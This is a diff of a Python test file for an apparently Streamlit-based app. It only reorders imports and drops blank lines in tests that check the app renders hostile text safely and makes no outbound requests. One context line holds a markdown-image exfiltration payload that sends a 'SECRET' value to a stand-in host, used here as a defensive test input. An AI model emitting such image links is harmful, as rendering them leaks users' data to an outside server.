@@ -261,9 +261,8 @@ def test_every_text_the_app_renders_is_safe(monkeypatch, tmp_path):
     question and model name, nothing the pages render holds an image, raw HTML or an autolink,
     while the hostile text itself is shown."""
     import streamlit
-    from streamlit.testing.v1 import AppTest
-
     from fakeserver import FakeServer
+    from streamlit.testing.v1 import AppTest
 
     app = str(Path(__file__).resolve().parent.parent / "app.py")
     image = "![x](http://198.51.100.7/x.png?d=SECRET)"
@@ -307,7 +306,6 @@ def test_server_makes_no_outbound_request_as_in_the_container(listener, tmp_path
     import subprocess
     import sys
     import time
-
 
     from sparkdocs.local_model import free_port
 
